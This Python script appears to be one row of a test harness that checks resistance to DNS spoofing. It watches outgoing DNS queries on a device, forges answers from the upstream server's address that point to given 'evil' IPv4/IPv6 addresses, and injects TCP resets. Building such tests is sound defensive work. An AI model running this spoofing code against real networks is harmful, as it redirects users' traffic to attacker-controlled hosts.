"""Row 7: sees a lookup leave, and answers it before the upstream can. forge_answers.py DEVICE EVIL4 EVIL6

By a raw socket from the upstream's address, and by a packet socket on lo. Says `ready`, then `forged` for each.
"""
import socket
import struct
import sys

from packets import ETH_IPV6, ethernet, ethertype_of, forged_answer, ip, say, send_raw, tcp, udp_packet

OUTGOING = 4


def main():
    device, evil = sys.argv[1], {1: sys.argv[2], 28: sys.argv[3]}
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    tap.bind((device, 3))
    loopback = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    loopback.bind(("lo", 0))
    say(event="ready")
    while True:
        frame, where = tap.recvfrom(65535)
        seen = read(frame)
        if seen is None or (device != "lo" and where[2] != OUTGOING):
            continue
        own, port, upstream, query = seen
        kind = struct.unpack("!H", query[question_end(query) - 4 : question_end(query) - 2])[0]
        if kind not in evil:
            continue
        packet = udp_packet(upstream, 53, own, port, forged_answer(query, evil[kind]))
        outcomes = []
        for send in (
            lambda: send_raw(packet, own),
            lambda: loopback.send(ethernet("00:00:00:00:00:00", ethertype_of(own), packet)),
            # A reset would end a lookup over TCP.
            lambda: send_raw(ip(upstream, own, 6, tcp(upstream, 53, own, port, 4)), own),
        ):
            try:
                send()
                outcomes.append("sent")
            except OSError as error:
                outcomes.append(str(error.errno))
        say(event="forged", outcomes=outcomes)


def question_end(query):
    at = 12
    while query[at]:
        at += 1 + query[at]
    return at + 5


def read(frame):
    """Own address and port, upstream and message of a lookup over UDP."""
    packet = frame[14:]
    if struct.unpack("!H", frame[12:14])[0] == ETH_IPV6:
        protocol, transport, version = packet[6], packet[40:], socket.AF_INET6
        source, destination = packet[8:24], packet[24:40]
    else:
        protocol, transport, version = packet[9], packet[20:], socket.AF_INET
        source, destination = packet[12:16], packet[16:20]
    if protocol != 17 or len(transport) < 8 + 17 or transport[2:4] != b"\0\x35" or transport[10] & 0x80:
        return None
    text = lambda address: socket.inet_ntop(version, address)
    return text(source), struct.unpack("!H", transport[:2])[0], text(destination), transport[8:]


main()
